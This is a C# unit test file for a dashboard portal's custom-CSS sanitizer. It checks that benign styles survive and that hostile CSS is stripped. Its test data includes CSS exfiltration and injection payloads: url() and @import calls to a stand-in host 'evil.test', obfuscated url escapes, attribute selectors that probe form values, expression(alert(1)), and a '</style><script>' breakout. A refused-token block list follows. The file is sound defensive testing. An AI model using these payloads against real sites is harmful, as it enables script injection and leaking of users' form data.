using Dashboard.Portal;

namespace Dashboard.Tests.Portal;

[Trait("Kind", "Pure")]
public sealed class CustomCssTests
{
    [Theory]
    [InlineData(".uh-button { border-radius: 2px; color: red }", "border-top-left-radius: 2px")]
    [InlineData(".uh-card:hover > .uh-badge { opacity: 0.5 !important }", "!important")]
    [InlineData("@media (min-width: 400px) { .uh-header { padding: 8px } }", "@media (min-width: 400px)")]
    [InlineData("@supports (display: grid) { .uh-tabs { display: grid } }", "@supports (display: grid)")]
    [InlineData(":root { --uh-primary: #10b981 } .uh-button { background-color: var(--uh-primary) }", "var(--uh-primary)")]
    [InlineData(".uh-shell { background-image: linear-gradient(red, blue) }", "linear-gradient(")]
    [InlineData(".uh-header::after { content: \"Hi\" }", "content: \"Hi\"")]
    [InlineData(".uh-button { width: calc((1px + 2px) * 3) }", "calc(")]
    public void What_only_looks_different_is_taken_over(string css, string expected) =>
        Assert.Contains(expected, CustomCss.Reemit(css), StringComparison.Ordinal);

    [Theory]
    [InlineData("@import url(https://evil.test/x.css);")]
    [InlineData("@import \"https://evil.test/x.css\";")]
    [InlineData("@font-face { font-family: x; src: url(https://evil.test/x.woff) }")]
    [InlineData("@charset \"utf-7\";")]
    [InlineData("@namespace svg url(http://www.w3.org/2000/svg);")]
    [InlineData("@keyframes x { from { background: url(https://evil.test) } }")]
    [InlineData("@layer x { .a { background: url(https://evil.test) } }")]
    [InlineData("@property --x { syntax: '<url>'; inherits: true; initial-value: url(https://evil.test) }")]
    [InlineData(".a { background: url(https://evil.test/?q) }")]
    [InlineData(".a { background: URL( 'https://evil.test' ) }")]
    [InlineData(".a { background: u\\72l(https://evil.test) }")]
    [InlineData(".a { background: \\75\\72\\6c(https://evil.test) }")]
    [InlineData(".a { background-image: image-set('https://evil.test/a.png' 1x) }")]
    [InlineData(".a { background-image: -webkit-image-set(url(https://evil.test/a.png) 1x) }")]
    [InlineData(".a { background-image: image('https://evil.test/a.png') }")]
    [InlineData(".a { background-image: cross-fade(url(https://evil.test/a.png), red) }")]
    [InlineData(".a { --x: url(https://evil.test) }")]
    [InlineData(".a { cursor: url(https://evil.test), auto }")]
    [InlineData(".a { list-style: square url(https://evil.test) }")]
    [InlineData(".a { content: url(https://evil.test) }")]
    [InlineData(".a { filter: url(https://evil.test#x) }")]
    [InlineData(".a { width: expression(alert(1)) }")]
    [InlineData(".a { -moz-binding: url(https://evil.test/x.xml#a) }")]
    [InlineData(".a { behavior: url(x.htc) }")]
    [InlineData("input[value^='a'] { color: red }")]
    [InlineData("[href] { color: red }")]
    [InlineData("a:not([href]) { color: red }")]
    [InlineData(":has(input[type=password]) { color: red }")]
    [InlineData("@media (min-width: 1px) { @import 'x'; input[value='a'] { background: url(https://evil.test) } }")]
    [InlineData("</style><script>alert(1)</script>")]
    [InlineData(".a { color: red</style><script>alert(1)</script> }")]
    public void What_loads_something_or_reads_a_form_is_left_out(string css)
    {
        var output = CustomCss.Reemit(css + "\n.uh-good { color: blue }");

        foreach (var refused in new[] { "url", "evil", "import", "image", "[", "script", "expression", "keyframes", "font-face", "binding", "behavior", "layer", "\\" })
        {
            Assert.DoesNotContain(refused, output, StringComparison.OrdinalIgnoreCase);
        }
    }

    [Fact]
    public void A_refused_declaration_takes_nothing_else_along()
    {
        var output = CustomCss.Reemit(".uh-card { color: blue; background: url(x); margin: 4px } .uh-input[type] { color: red } .uh-badge { color: green }");

        Assert.Contains(".uh-card { color: ", output, StringComparison.Ordinal);
        Assert.Contains("margin", output, StringComparison.Ordinal);
        Assert.Contains(".uh-badge", output, StringComparison.Ordinal);
        Assert.DoesNotContain(".uh-input", output, StringComparison.Ordinal);
    }

    [Fact]
    public void Writing_it_anew_twice_changes_nothing()
    {
        var once = CustomCss.Reemit("@media print { .uh-card { margin: 0 auto; border: 1px solid rgba(1,2,3,.5) } } .uh-header h1, .uh-button { font: bold 12px/1.5 Inter, serif }");

        Assert.NotEmpty(once);
        Assert.Equal(once, CustomCss.Reemit(once));
    }

    [Fact]
    public void Deep_nesting_and_nonsense_end_quickly()
    {
        Assert.Empty(CustomCss.Reemit(string.Concat(Enumerable.Repeat("@media{", 9000))));
        Assert.Empty(CustomCss.Reemit("a{b:" + new string('(', 60_000)));
        CustomCss.Reemit(new string('(', 60_000));
        CustomCss.Reemit(string.Concat(Enumerable.Repeat("a{b:c", 10_000)));
        Assert.Empty(CustomCss.Reemit("\0\uFFFD{"));
    }
}
